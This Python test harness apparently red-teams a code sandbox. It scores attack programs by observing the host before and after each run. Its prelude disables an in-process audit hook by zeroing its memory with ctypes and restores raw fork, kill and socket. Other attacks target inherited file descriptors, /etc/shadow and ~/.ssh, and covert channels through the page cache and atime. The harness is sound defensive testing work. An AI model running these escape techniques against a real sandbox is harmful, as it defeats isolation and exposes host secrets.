"""Held-out sandbox round 4: attacks written blind (without reading the sandbox's code).

Each attack is a dict:
  id, class, description   one line each
  code                     callable ctx -> str (the program the run executes)
  receiver                 optional second program (cross-run attacks: sender, then receiver)
  limits                   kwargs for SandboxLimits (wall_s, cpu_s, memory_mb, max_processes, ...)
  expected                 what a closed wall gives
  outside                  callable ctx -> snapshot, run in the CALLER's process before and after
  judge                    callable (before, after, results, ctx) -> (verdict, observed)
                           verdict in {"stopped", "hole", "inconclusive"}
  setup / teardown         optional callables ctx -> None, run in the caller's process
  caller_cap_mb            optional: the caller runs in a memory cgroup of its own with this much
                           room above its baseline (score.py), so that an OOM kill of the caller is
                           observed, not suffered
  caller_harm              True: a dead or stuck caller is the hole this attack looks for

Programs that need the kernel walls (not only the in-process audit hook) start with PRELUDE: a
generic DISARM written for this round (take the audit hook's frame from a refusal's traceback and
empty the sets in its locals with ctypes.memmove/memset), then fresh copies of `posix` and `_socket`
so that fork/kill/socket are the C functions again. Where the DISARM fails, the program runs with
the hook in place and is stopped there, which the outside check still judges.

ctx keys (score.py builds them): nonce (hex), marker (process name the programs give themselves,
<= 15 chars), caller_pid, repo_dir, home, plus what each setup adds. In program text, @KEY@ is
replaced by str(ctx[KEY]).
"""
from __future__ import annotations

import ctypes
import fcntl
import glob
import mmap
import os
import random
import re
import socket
import stat
import threading
import time

PAGE = 4096

# --------------------------------------------------------------------------- the programs' prelude

PRELUDE = r'''
import sys as _sys
def _r3b4_disarm():
    import ctypes
    hook_locals = None
    try:
        ctypes.CDLL(None).getpid
    except BaseException as e:
        tb = e.__traceback__
        while tb is not None:
            try:
                loc = tb.tb_frame.f_locals
            except BaseException:
                break
            if any(isinstance(v, (set, frozenset)) for v in loc.values()):
                hook_locals = loc
            tb = tb.tb_next
    else:
        return 'no-hook'
    if hook_locals is None:
        return 'no-frame'
    for k, v in list(hook_locals.items()):
        if isinstance(v, (set, frozenset)) and k != '_pathtypes':
            base = id(v)
            buf = ctypes.create_string_buffer(48)
            ctypes.memmove(buf, base, 48)
            mask = int.from_bytes(buf.raw[32:40], 'little')
            table = int.from_bytes(buf.raw[40:48], 'little')
            ctypes.memset(table, 0, (mask + 1) * 16)
            ctypes.memset(base + 16, 0, 16)
    try:
        ctypes.CDLL(None).getpid()
        return 'disarmed'
    except BaseException as e:
        return 'failed: %r' % (e,)

def _r3b4_fresh(name):
    import importlib.util, importlib.machinery, _imp
    if name in _sys.builtin_module_names:
        return _imp.create_builtin(importlib.machinery.ModuleSpec(name, None, origin='built-in'))
    spec = importlib.util.find_spec(name)
    m = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(m)
    return m

R3B4_HOOK = 'untried'
try:
    R3B4_HOOK = _r3b4_disarm()
except BaseException as _e:
    R3B4_HOOK = 'failed: %r' % (_e,)
import os, time, signal, threading
try:
    _px = _r3b4_fresh('posix')
    for _n in ('fork', 'kill', 'killpg', 'setsid', 'execv', 'execve', 'posix_spawn', 'system',
               'utime', 'chmod', 'fchmod', 'fchown', 'chown', 'lchown', 'open', 'mkdir', 'setpgid',
               'nice', 'setpriority', 'sched_setscheduler', 'sched_setaffinity', 'waitpid', 'wait',
               'setuid', 'setgid', 'setgroups', 'mkfifo', 'symlink', 'truncate', 'ftruncate',
               'setxattr', 'listxattr', 'getxattr'):
        if hasattr(_px, _n):
            setattr(os, _n, getattr(_px, _n))
    import socket as _socket_mod
    RAWSOCK = _r3b4_fresh('_socket')
except BaseException as _e:
    RAWSOCK = None
    R3B4_HOOK += '; fresh modules failed: %r' % (_e,)
try:
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    def sc(nr, *a):
        args = [ctypes.c_long(x) if isinstance(x, int) else x for x in a]
        ctypes.set_errno(0)
        r = libc.syscall(ctypes.c_long(nr), *args)
        return r, ctypes.get_errno()
    def name_me():
        libc.prctl(15, b'@MARKER@', 0, 0, 0)
    name_me()
except BaseException as _e:
    libc = None
    def sc(nr, *a):
        return -1, -1
    def name_me():
        pass
    R3B4_HOOK += '; no ctypes: %r' % (_e,)
def say(*a):
    print(*a, flush=True)
say('R3B4_HOOK', R3B4_HOOK)
'''


def prog(body: str, prelude: bool = True):
    """A program: PRELUDE (or not) + body, with @KEY@ replaced from ctx."""

    def build(ctx):
        text = (PRELUDE if prelude else '') + '\n' + body
        for k, v in ctx.items():
            if isinstance(v, (str, int)):
                text = text.replace('@%s@' % k.upper(), str(v))
        return text

    return build


# --------------------------------------------------------------------------- host-side observers

def _read(path, n=1 << 16):
    try:
        with open(path, 'rb') as f:
            return f.read(n)
    except OSError:
        return b''


def procs_named(marker):
    """Host pids whose comm is marker (the programs name themselves)."""
    out = []
    for p in os.listdir('/proc'):
        if p.isdigit() and _read('/proc/%s/comm' % p).strip() == marker.encode():
            out.append(int(p))
    return out


def proc_uids():
    """{pid: real uid} of every host process."""
    out = {}
    for p in os.listdir('/proc'):
        if not p.isdigit():
            continue
        m = re.search(rb'^Uid:\s+(\d+)', _read('/proc/%s/status' % p), re.M)
        if m:
            out[int(p)] = int(m.group(1))
    return out


def proc_facts(pid):
    """nice, policy, rt priority, caps, uid, oom_score_adj, ioprio of a host pid, seen from outside."""
    st = _read('/proc/%d/stat' % pid).decode(errors='replace')
    facts = {}
    try:
        fields = st[st.rindex(')') + 2:].split()
        # fields[0] is field 3 (state)
        facts['state'] = fields[0]
        facts['nice'] = int(fields[16])
        facts['rt_priority'] = int(fields[37])
        facts['policy'] = int(fields[38])
    except (ValueError, IndexError):
        pass
    status = _read('/proc/%d/status' % pid).decode(errors='replace')
    for key in ('CapEff', 'CapPrm', 'CapInh', 'CapAmb', 'CapBnd', 'Uid', 'NoNewPrivs', 'Seccomp'):
        m = re.search(r'^%s:\s+(.*)$' % key, status, re.M)
        if m:
            facts[key] = m.group(1).strip()
    adj = _read('/proc/%d/oom_score_adj' % pid).strip()
    if adj:
        facts['oom_score_adj'] = int(adj)
    try:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        r = libc.syscall(ctypes.c_long(252), ctypes.c_long(1), ctypes.c_long(pid))  # ioprio_get(WHO_PROCESS)
        if r >= 0:
            facts['ioprio_class'] = r >> 13
    except Exception:
        pass
    return facts


class Monitor(threading.Thread):
    """Polls /proc every 20 ms during a run for processes named ctx['marker']: peak count, facts."""

    def __init__(self, marker):
        super().__init__(daemon=True)
        self.marker = marker
        self.stop_flag = threading.Event()
        self.peak = 0
        self.facts = {}

    def run(self):
        while not self.stop_flag.is_set():
            try:
                pids = procs_named(self.marker)
                self.peak = max(self.peak, len(pids))
                for p in pids[:20]:
                    f = proc_facts(p)
                    if f:
                        self.facts.setdefault(p, []).append(f)
                        del self.facts[p][:-5]
            except Exception:
                pass
            time.sleep(0.02)

    def stop(self):
        self.stop_flag.set()
        self.join(2)


def caller_cgroup_dirs():
    """Children of this (caller) process's memory cgroup: the run's cgroups, if any are left."""
    out = []
    for line in _read('/proc/self/cgroup').decode().splitlines():
        hid, ctrls, path = line.split(':', 2)
        if 'memory' in ctrls.split(',') or (hid == '0' and ctrls == ''):
            base = '/sys/fs/cgroup/memory' + path if 'memory' in ctrls else '/sys/fs/cgroup/unified' + path
            try:
                out += sorted(os.path.join(base, d) for d in os.listdir(base)
                              if os.path.isdir(os.path.join(base, d)))
            except OSError:
                pass
    return out


def leftovers(ctx):
    """Generic host snapshot: processes, scratch dirs, mounts, cgroups, IPC objects, /dev/shm."""
    uids = proc_uids()
    return {
        'marker_procs': procs_named(ctx['marker']),
        'uid_procs': sorted((p, u) for p, u in uids.items() if u != 0 and p != os.getpid()),
        'tmp_r3': sorted(glob.glob('/tmp/r3sandbox*')),
        'mounts': sum(1 for line in _read('/proc/self/mountinfo', 1 << 22).splitlines() if b'r3sandbox' in line),
        'cgroups': caller_cgroup_dirs(),
        'sysvipc': {k: len(_read('/proc/sysvipc/' + k).splitlines()) for k in ('shm', 'msg', 'sem')},
        'devshm': sorted(os.listdir('/dev/shm')) if os.path.isdir('/dev/shm') else [],
        'mqueue': sorted(os.listdir('/dev/mqueue')) if os.path.isdir('/dev/mqueue') else [],
    }


def leftover_diff(before, after):
    """What the run left: new items in the snapshot (a list of strings, empty if nothing)."""
    out = []
    if after['marker_procs']:
        out.append('processes named by the run still alive: %s' % after['marker_procs'])
    old_uids = {u for _, u in before['uid_procs']}
    new = [(p, u) for p, u in after['uid_procs'] if u not in old_uids]
    if new:
        out.append('processes of a new uid: %s' % new[:10])
    for key in ('tmp_r3', 'cgroups', 'devshm', 'mqueue'):
        extra = sorted(set(after[key]) - set(before[key]))
        if extra:
            out.append('%s new: %s' % (key, extra[:10]))
    if after['mounts'] > before['mounts']:
        out.append('mounts mentioning r3sandbox: %d -> %d' % (before['mounts'], after['mounts']))
    for k in ('shm', 'msg', 'sem'):
        if after['sysvipc'][k] > before['sysvipc'][k]:
            out.append('SysV %s: %d -> %d' % (k, before['sysvipc'][k], after['sysvipc'][k]))
    return out


def text_of(res):
    return '\n'.join(str(getattr(res, k, '') or '') for k in ('stdout', 'stderr', 'value', 'reason'))


def short(res):
    if res is None:
        return 'no result'
    return 'status=%s rc=%s reason=%r' % (res.status, res.returncode, (res.reason or '')[:160])


BAD_CHARS = re.compile('[\x00-\x08\x0a-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]')


# --------------------------------------------------------------------------- mincore for the host

def host_mincore(path, pages):
    """Which of `pages` (page indices) of path are in the page cache, seen from the caller."""
    libc = ctypes.CDLL(None, use_errno=True)
    with open(path, 'rb') as f:
        size = os.fstat(f.fileno()).st_size
        mm = mmap.mmap(f.fileno(), size, access=mmap.ACCESS_COPY)
        try:
            buf = (ctypes.c_char * 1).from_buffer(mm)
            addr = ctypes.addressof(buf)
            vec = (ctypes.c_ubyte * 1)()
            out = []
            for p in pages:
                r = libc.mincore(ctypes.c_void_p(addr + p * PAGE), ctypes.c_size_t(PAGE), vec)
                out.append(None if r != 0 else vec[0] & 1)
            del buf
        finally:
            mm.close()
    return out


def setup_pagecache(ctx):
    """Pick a big bound host file and 16 pages of it that are not cached now; a random 16-bit secret."""
    cands = []
    for d in ('/usr/lib', '/usr/share', '/usr/lib64'):
        for root, dirs, files in os.walk(d):
            for fn in files:
                p = os.path.join(root, fn)
                try:
                    st = os.lstat(p)
                except OSError:
                    continue
                if stat.S_ISREG(st.st_mode) and 64 << 20 <= st.st_size <= 4 << 30:
                    cands.append(p)
            if len(cands) > 40:
                break
    rnd = random.Random(ctx['nonce'])
    rnd.shuffle(cands)
    for path in cands:
        npages = os.path.getsize(path) // PAGE
        picks = sorted(rnd.sample(range(64, npages - 64, 256), 48)) if npages > 20000 else []
        if not picks:
            continue
        res = host_mincore(path, picks)
        cold = [p for p, r in zip(picks, res) if r == 0]
        if len(cold) >= 16:
            ctx['cache_file'] = path
            ctx['cache_pages'] = ','.join(map(str, cold[:16]))
            bits = [rnd.randint(0, 1) for _ in range(16)]
            bits[0], bits[1] = 1, 0
            ctx['bits'] = ''.join(map(str, bits))
            return
    ctx['cache_file'] = ''
    ctx['cache_pages'] = ''
    ctx['bits'] = ''


def outside_pagecache(ctx):
    if not ctx.get('cache_file'):
        return None
    pages = [int(x) for x in ctx['cache_pages'].split(',')]
    return ''.join('?' if r is None else str(r) for r in host_mincore(ctx['cache_file'], pages))


def judge_pagecache(before, after, results, ctx):
    if not ctx.get('cache_file'):
        return 'inconclusive', 'no big uncached file found in the bound trees'
    recv = results[-1]
    m = re.search(r'BITS ([01]{16})', recv.stdout or '') if recv else None
    got = m.group(1) if m else None
    obs = 'secret %s; host mincore before %s after %s; receiver read %s; sender %s; receiver %s' % (
        ctx['bits'], before, after, got, short(results[0]), short(recv))
    if got == ctx['bits']:
        return 'hole', 'bits passed: ' + obs
    if after == ctx['bits']:
        return 'hole', 'the sender set the host page cache to the secret (a receiver with mincore reads it): ' + obs
    return 'stopped', obs


# --------------------------------------------------------------------------- atime channel

def setup_atime(ctx):
    now = time.time()
    picks = []
    for root, dirs, files in os.walk('/usr/share/doc'):
        for fn in sorted(files):
            p = os.path.join(root, fn)
            try:
                st = os.lstat(p)
            except OSError:
                continue
            # relatime updates atime when it is older than mtime or older than a day
            if stat.S_ISREG(st.st_mode) and st.st_size > 0 and now - st.st_atime > 2 * 86400:
                picks.append(p)
        if len(picks) >= 400:
            break
    rnd = random.Random(ctx['nonce'])
    rnd.shuffle(picks)
    picks = picks[:12]
    ctx['atime_files'] = '|'.join(picks)
    bits = [rnd.randint(0, 1) for _ in picks]
    if bits:
        bits[0] = 1
    ctx['bits'] = ''.join(map(str, bits))
    ctx['t0'] = int(now)


def outside_atime(ctx):
    out = []
    for p in filter(None, ctx['atime_files'].split('|')):
        try:
            out.append(os.stat(p).st_atime_ns)
        except OSError:
            out.append(None)
    return out


def judge_atime(before, after, results, ctx):
    if not ctx['atime_files']:
        return 'inconclusive', 'no old-atime files found under /usr/share/doc'
    changed = ''.join('1' if a != b else '0' for a, b in zip(before, after))
    recv = results[-1]
    m = re.search(r'BITS ([01]+)', recv.stdout or '') if recv else None
    obs = 'secret %s; host atimes changed %s; receiver read %s; sender %s' % (
        ctx['bits'], changed, m.group(1) if m else None, short(results[0]))
    if '1' in changed:
        return 'hole', 'host file times changed by reading through the bound tree: ' + obs
    if m and m.group(1) == ctx['bits']:
        return 'hole', 'bits passed: ' + obs
    return 'stopped', obs


# --------------------------------------------------------------------------- generic judges

def judge_status(ok_statuses, bad_statuses=('ok',), need_in_reason=None):
    """Stopped if the run's status is in ok_statuses (and need_in_reason is in the reason)."""

    def judge(before, after, results, ctx):
        r = results[-1]
        obs = short(r)
        extra = leftover_diff(before, after) if isinstance(before, dict) and 'marker_procs' in before else []
        if extra:
            return 'hole', obs + '; left: ' + '; '.join(extra)
        if r is None:
            return 'inconclusive', 'no result'
        if r.status in ok_statuses and (need_in_reason is None or re.search(need_in_reason, r.reason or '', re.I)):
            return 'stopped', obs
        if r.status in bad_statuses:
            return 'hole', obs
        return 'inconclusive', obs

    return judge


def judge_leftovers(max_wall=None, status_bad=()):
    def judge(before, after, results, ctx):
        extra = leftover_diff(before, after)
        r = results[-1]
        obs = short(r) + '; caller wall %.1f s' % ctx.get('wall', -1)
        if extra:
            return 'hole', obs + '; left: ' + '; '.join(extra)
        if max_wall is not None and ctx.get('wall', 0) > max_wall:
            return 'hole', obs + '; run_python held the caller beyond %s s' % max_wall
        if r is not None and r.status in status_bad:
            return 'hole', obs
        return 'stopped', obs
    return judge


def judge_secret(key='secret'):
    def judge(before, after, results, ctx):
        secret = str(ctx[key])
        seen = [i for i, r in enumerate(results) if r is not None and secret in text_of(r)]
        obs = '; '.join(short(r) for r in results)
        if seen:
            return 'hole', 'the secret appeared in run %s output; %s' % (seen, obs)
        return 'stopped', obs
    return judge


def judge_visible(before, after, results, ctx):
    r = results[-1]
    if r is None:
        return 'inconclusive', 'no result'
    bad = []
    for field in ('reason', 'value'):
        v = getattr(r, field, None) or ''
        m = BAD_CHARS.search(v)
        if m:
            bad.append('%s holds %r at %d' % (field, m.group(0), m.start()))
        if len(v) > 100_000:
            bad.append('%s is %d chars' % (field, len(v)))
    obs = short(r) + '; reason len %d; stderr len %d' % (len(r.reason or ''), len(r.stderr or ''))
    return ('hole', '; '.join(bad) + '; ' + obs) if bad else ('stopped', obs)


def judge_cpu(cpu_s, slack=2.5):
    def judge(before, after, results, ctx):
        r = results[-1]
        used = ctx.get('children_cpu', -1)
        obs = short(r) + '; CPU of the run measured by the caller (RUSAGE_CHILDREN) %.2f s, wall %.2f s' % (
            used, ctx.get('wall', -1))
        extra = leftover_diff(before, after)
        if extra:
            return 'hole', obs + '; left: ' + '; '.join(extra)
        if used > cpu_s + 1 + slack:
            return 'hole', obs + '; more than cpu_s + 1 + %.1f' % slack
        if r is not None and r.status == 'ok':
            return 'hole', obs
        return 'stopped', obs
    return judge


def judge_caller(limit_growth_mb=300, max_wall=None):
    def judge(before, after, results, ctx):
        r = results[-1]
        grow = ctx.get('maxrss_mb_after', 0) - ctx.get('maxrss_mb_before', 0)
        obs = short(r) + '; caller maxrss +%.0f MB; caller wall %.1f s; stdout %d chars' % (
            grow, ctx.get('wall', -1), len((r.stdout or '') if r else ''))
        extra = leftover_diff(before, after)
        if extra:
            return 'hole', obs + '; left: ' + '; '.join(extra)
        if grow > limit_growth_mb:
            return 'hole', obs + '; the caller grew by more than %d MB' % limit_growth_mb
        if max_wall is not None and ctx.get('wall', 0) > max_wall:
            return 'hole', obs + '; the caller was held beyond %s s' % max_wall
        if r is not None and len(r.stdout or '') > 4 * 1024 * 1024:
            return 'hole', obs + '; unbounded stdout reached the caller'
        return 'stopped', obs
    return judge


# --------------------------------------------------------------------------- caller stdio files

def outside_stdio(ctx):
    """The caller's fds 0, 1, 2 (host files made by score.py) and the host /dev/null: stat + flags."""
    out = {}
    for fd in (0, 1, 2):
        try:
            st = os.fstat(fd)
            out[fd] = dict(mode=st.st_mode, uid=st.st_uid, gid=st.st_gid, size=st.st_size,
                           mtime=st.st_mtime_ns, atime=st.st_atime_ns, flags=fcntl.fcntl(fd, fcntl.F_GETFL),
                           fdflags=fcntl.fcntl(fd, fcntl.F_GETFD))
        except OSError as e:
            out[fd] = str(e)
    st = os.stat('/dev/null')
    out['devnull'] = dict(mode=st.st_mode, uid=st.st_uid, mtime=st.st_mtime_ns)
    out['leak'] = [b'R3B4-LEAK' in _read('/proc/self/fd/%d' % fd, 1 << 24) for fd in (1, 2)]
    return out


def judge_stdio(before, after, results, ctx):
    bad = []
    for fd in (0, 1, 2, 'devnull'):
        b, a = before.get(fd), after.get(fd)
        if not isinstance(b, dict) or not isinstance(a, dict):
            bad.append('fd %s: %s -> %s' % (fd, b, a))
            continue
        for k in ('mode', 'uid', 'gid', 'flags', 'fdflags'):
            if k in b and b[k] != a.get(k):
                bad.append('fd %s %s %r -> %r' % (fd, k, b[k], a.get(k)))
        if 'size' in b and a.get('size', 0) < b['size']:
            bad.append('fd %s truncated %d -> %d' % (fd, b['size'], a['size']))
        for k in ('mtime', 'atime'):
            if k in b and a.get(k) != b[k] and a.get(k, 0) < 10 ** 18:  # set into the past (epoch-ish)
                bad.append('fd %s %s set to %s' % (fd, k, a.get(k)))
    if any(after['leak']):
        bad.append('the run wrote into the caller\'s own stdout/stderr file: %s' % after['leak'])
    obs = short(results[-1])
    return ('hole', '; '.join(bad) + '; ' + obs) if bad else ('stopped', obs)


# --------------------------------------------------------------------------- setups

def setup_secret_fd(ctx):
    path = os.path.join(ctx['tmpdir'], 'secret.txt')
    with open(path, 'w') as f:
        f.write('SECRET-%s\n' % ctx['secret'])
    fd = os.open(path, os.O_RDONLY)
    os.set_inheritable(fd, True)
    r, w = os.pipe()
    os.write(w, ('PIPESECRET-%s\n' % ctx['secret']).encode())
    os.set_inheritable(r, True)
    ctx['_fds'] = [fd, r, w]
    ctx['secret_fd'] = fd


def teardown_fds(ctx):
    for fd in ctx.get('_fds', []):
        try:
            os.close(fd)
        except OSError:
            pass


def outside_secret_fd(ctx):
    try:
        return os.lseek(ctx['secret_fd'], 0, os.SEEK_CUR)
    except OSError as e:
        return str(e)


def judge_secret_fd(before, after, results, ctx):
    r = results[-1]
    obs = short(r) + '; offset of the caller\'s inheritable fd %s -> %s' % (before, after)
    if r is not None and ctx['secret'] in text_of(r):
        return 'hole', 'the run read the caller\'s inheritable fds; ' + obs
    if before != after:
        return 'hole', 'the run moved the caller\'s file offset; ' + obs
    return 'stopped', obs


def setup_env_secret(ctx):
    os.environ['R3B4_SECRET'] = ctx['secret']


def setup_repo_secret(ctx):
    path = os.path.join(ctx['here'], '.secret-%s.txt' % ctx['nonce'])
    with open(path, 'w') as f:
        f.write('REPOSECRET-%s\n' % ctx['secret'])
    ctx['secret_path'] = path
    ctx['_rm'] = [path]
    shadow = _read('/etc/shadow', 4096)
    ctx['shadow_line'] = shadow.split(b'\n')[0].decode(errors='replace') if shadow else ''


def teardown_rm(ctx):
    for p in ctx.get('_rm', []):
        try:
            os.unlink(p)
        except OSError:
            pass


def judge_files(before, after, results, ctx):
    r = results[-1]
    obs = short(r)
    if r is None:
        return 'inconclusive', 'no result'
    t = text_of(r)
    bad = []
    if ctx['secret'] in t:
        bad.append('read a secret file in the checkout')
    if ctx.get('shadow_line') and ctx['shadow_line'] in t:
        bad.append('read /etc/shadow')
    if 'SSHLIST' in t and re.search(r'SSHLIST \[[^\]]', t):
        bad.append('listed ~/.ssh')
    return ('hole', '; '.join(bad) + '; ' + obs) if bad else ('stopped', obs)


class _Listeners:
    def __init__(self, nonce):
        self.hits = []
        self.socks = []
        for fam, addr in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):
            try:
                s = socket.socket(fam, socket.SOCK_STREAM)
                s.bind((addr, 0))
                s.listen(8)
                s.settimeout(0.2)
                self.socks.append(('tcp', s))
            except OSError:
                pass
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind(('127.0.0.1', 0))
        u.settimeout(0.2)
        self.socks.append(('udp', u))
        a = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        a.bind(b'\0r3b4-' + nonce.encode())
        a.listen(8)
        a.settimeout(0.2)
        self.socks.append(('abstract', a))
        self.stop = threading.Event()
        self.t = threading.Thread(target=self.loop, daemon=True)
        self.t.start()

    def ports(self):
        return [(k, s.getsockname()) for k, s in self.socks]

    def loop(self):
        while not self.stop.is_set():
            for kind, s in self.socks:
                try:
                    if kind == 'udp':
                        d, a = s.recvfrom(100)
                        self.hits.append((kind, str(a)))
                    else:
                        c, a = s.accept()
                        self.hits.append((kind, str(a)))
                        c.close()
                except (socket.timeout, OSError):
                    pass


def setup_net(ctx):
    lst = _Listeners(ctx['nonce'])
    ctx['_lst'] = lst
    ports = dict((k, v) for k, v in lst.ports() if k != 'abstract')
    ctx['tcp4'] = lst.socks[0][1].getsockname()[1]
    ctx['tcp6'] = lst.socks[1][1].getsockname()[1] if lst.socks[1][0] == 'tcp' else 0
    ctx['udp'] = ports['udp'][1]


def outside_net(ctx):
    time.sleep(0.5)
    return list(ctx['_lst'].hits)


def judge_net(before, after, results, ctx):
    ctx['_lst'].stop.set()
    r = results[-1]
    new = after[len(before):]
    obs = short(r) + '; connections the caller\'s listeners saw: %s' % new
    return ('hole', obs) if new else ('stopped', obs)


def _keyctl(*a):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(*[ctypes.c_long(x) if isinstance(x, int) else x for x in a])


def setup_lock_key(ctx):
    path = os.path.join(ctx['tmpdir'], 'locked.txt')
    with open(path, 'w') as f:
        f.write('x')
    fd = os.open(path, os.O_RDWR)
    fcntl.flock(fd, fcntl.LOCK_EX)
    ctx['_fds'] = [fd]
    ctx['lock_inode'] = os.fstat(fd).st_ino
    desc = ('r3b4-key-%s' % ctx['nonce']).encode()
    # add_key("user", desc, payload, KEY_SPEC_PROCESS_KEYRING=-2): only this caller process holds it
    serial = _keyctl(ctypes.c_long(248), b'user', desc, b'KEYPAYLOAD-' + ctx['secret'].encode(),
                     ctypes.c_long(10 + len(ctx['secret']) + 1), ctypes.c_long(-2))
    ctx['key_serial'] = int(serial)


def outside_lock_key(ctx):
    return {'keys': ('r3b4-key-%s' % ctx['nonce']) in _read('/proc/keys').decode(errors='replace')}


def judge_lock_key(before, after, results, ctx):
    r = results[-1]
    t = text_of(r) if r else ''
    bad = []
    if re.search(r':%d ' % ctx['lock_inode'], t):
        bad.append('the caller\'s lock (inode %d) is listed in the run\'s /proc/locks' % ctx['lock_inode'])
    if 'r3b4-key-%s' % ctx['nonce'] in t or ctx['secret'] in t:
        bad.append('the caller\'s key is visible in the run')
    if before.get('keys') and not after.get('keys'):
        bad.append('the caller\'s key is gone after the run')
    obs = short(r) + '; key serial %s' % ctx['key_serial']
    return ('hole', '; '.join(bad) + '; ' + obs) if bad else ('stopped', obs)


def host_fingerprint(ctx):
    return {'boot_id': _read('/proc/sys/kernel/random/boot_id').decode().strip(),
            'cmdline': _read('/proc/cmdline').decode(errors='replace').strip()}


def judge_fingerprint(before, after, results, ctx):
    r = results[-1]
    t = text_of(r) if r else ''
    seen = [k for k, v in after.items() if v and v in t]
    obs = short(r) + '; host values seen in the run: %s' % seen
    return ('hole', obs) if seen else ('stopped', obs)


def outside_keys(ctx):
    return ('r3b4-%s' % ctx['nonce']) in _read('/proc/keys').decode(errors='replace')


def judge_keyring(before, after, results, ctx):
    obs = '; '.join(short(r) for r in results) + '; key on the host (/proc/keys) before %s after %s' % (before, after)
    recv = results[-1]
    if after:
        return 'hole', 'the run\'s key is in the host\'s keyring: ' + obs
    if recv is not None and ('BITS ' + ctx['nonce']) in (recv.stdout or ''):
        return 'hole', 'bits passed: ' + obs
    if all(r is not None and r.status == 'refused' for r in results):
        return 'stopped', obs
    if any(r is not None and r.status == 'ok' and 'ADDKEY ok' in (r.stdout or '') for r in results):
        return 'hole', 'add_key ran: ' + obs
    return 'stopped', obs


def judge_xr_objects(before, after, results, ctx):
    recv = results[-1]
    extra = leftover_diff(before, after)
    host = []
    for p in glob.glob('/tmp/*%s*' % ctx['nonce']) + glob.glob('/var/tmp/*%s*' % ctx['nonce']) + \
            glob.glob('/dev/shm/*%s*' % ctx['nonce']) + glob.glob(os.path.expanduser('~/*%s*' % ctx['nonce'])):
        host.append(p)
    obs = '; '.join(short(r) for r in results)
    if host:
        return 'hole', 'objects on the host: %s; %s' % (host, obs)
    if extra:
        return 'hole', 'left: %s; %s' % ('; '.join(extra), obs)
    got = re.findall(r'GOT (\S+)', recv.stdout or '') if recv else []
    if got:
        return 'hole', 'receiver found the sender\'s objects: %s; %s' % (got, obs)
    return 'stopped', obs


def judge_priorities(before, after, results, ctx):
    facts = ctx.get('monitor_facts', {})
    bad = []
    for pid, seq in facts.items():
        for f in seq:
            if f.get('nice', 0) < 0:
                bad.append('pid %s nice %s' % (pid, f['nice']))
            if f.get('policy', 0) in (1, 2, 6):
                bad.append('pid %s policy %s' % (pid, f['policy']))
            if f.get('ioprio_class') == 1:
                bad.append('pid %s ioprio realtime' % pid)
            if f.get('oom_score_adj', 0) < 0:
                bad.append('pid %s oom_score_adj %s' % (pid, f['oom_score_adj']))
            if f.get('CapEff', '0').strip('0'):
                bad.append('pid %s CapEff %s' % (pid, f['CapEff']))
            if f.get('Uid', '1').split()[:1] == ['0']:
                bad.append('pid %s uid 0' % pid)
    extra = leftover_diff(before, after)
    obs = short(results[-1]) + '; processes seen %d; facts sample %s' % (
        len(facts), str(next(iter(facts.values()), [{}])[-1:])[:300])
    if not facts:
        return 'inconclusive', 'the monitor saw no process of the run; ' + obs
    bad = sorted(set(bad))
    if extra:
        bad += extra
    return ('hole', '; '.join(bad[:8]) + '; ' + obs) if bad else ('stopped', obs)


def judge_storm(max_procs):
    def judge(before, after, results, ctx):
        peak = ctx.get('monitor_peak', 0)
        extra = leftover_diff(before, after)
        obs = short(results[-1]) + '; peak processes of the run seen from the host %d (max_processes %d)' % (peak, max_procs)
        if extra:
            return 'hole', obs + '; left: ' + '; '.join(extra)
        if peak > max_procs + 1:
            return 'hole', obs
        return 'stopped', obs
    return judge


# --------------------------------------------------------------------------- the attacks

L = dict  # limits

BPF_HELPERS = r'''
import struct
def bpf_prog(nrs, action):
    ins = [(0x20, 0, 0, 0)]
    n = len(nrs)
    for i, nr in enumerate(nrs):
        ins.append((0x15, n - i, 0, nr))      # jeq nr -> the deny at the end
    ins.append((0x06, 0, 0, 0x7fff0000))      # allow
    ins.append((0x06, 0, 0, action))          # deny
    raw = b''.join(struct.pack('HBBI', *x) for x in ins)
    buf = ctypes.create_string_buffer(raw, len(raw))
    class FProg(ctypes.Structure):
        _fields_ = [('len', ctypes.c_ushort), ('filt', ctypes.c_void_p)]
    fp = FProg(len(ins), ctypes.cast(buf, ctypes.c_void_p))
    return fp, buf
'''

ATTACKS = []


def A(**kw):
    kw.setdefault('limits', L(wall_s=10, cpu_s=5, memory_mb=256, max_processes=4))
    kw.setdefault('outside', leftovers)
    ATTACKS.append(kw)


# ---- inherited file descriptors ------------------------------------------------------------------

A(id='fd_stdio_meta', **{'class': 'inherited-fd'},
  description='fstat/futimens/fchmod/fchown/ftruncate on every fd 0..63 and on /proc/self/fd/N (the caller\'s stdio are host files)',
  code=prog(r'''
for fd in range(64):
    for what, f in (('fstat', lambda: os.fstat(fd)), ('futimens', lambda: os.utime(fd, ns=(1, 1))),
                    ('fchmod', lambda: os.fchmod(fd, 0o4777)), ('fchown', lambda: os.fchown(fd, 4242, 4242)),
                    ('ftruncate', lambda: os.ftruncate(fd, 0)) if fd != 1 else ('skip', lambda: None),
                    ('utime-path', lambda: os.utime('/proc/self/fd/%d' % fd, ns=(1, 1))),
                    ('chmod-path', lambda: os.chmod('/proc/self/fd/%d' % fd, 0o777))):
        try:
            r = f()
            if what == 'fstat':
                say('fd', fd, 'dev', r.st_dev, 'ino', r.st_ino, 'mode', oct(r.st_mode), 'size', r.st_size)
            else:
                say('fd', fd, what, 'OK')
        except OSError as e:
            pass
result = 1
'''),
  expected='the caller\'s stdio host files and the host /dev/null keep mode, owner, size and times; status ok or refused',
  outside=outside_stdio, judge=judge_stdio)

A(id='fd_proc_reopen', **{'class': 'inherited-fd'},
  description='reopen /proc/self/fd/N, /dev/fd/N, /dev/stdout, /proc/1/fd/N for writing (O_APPEND) and write a marker',
  code=prog(r'''
paths = ['/dev/stdout', '/dev/stderr', '/dev/tty', '/proc/self/fd/0']
for n in range(16):
    paths += ['/proc/self/fd/%d' % n, '/dev/fd/%d' % n, '/proc/1/fd/%d' % n, '/proc/2/fd/%d' % n,
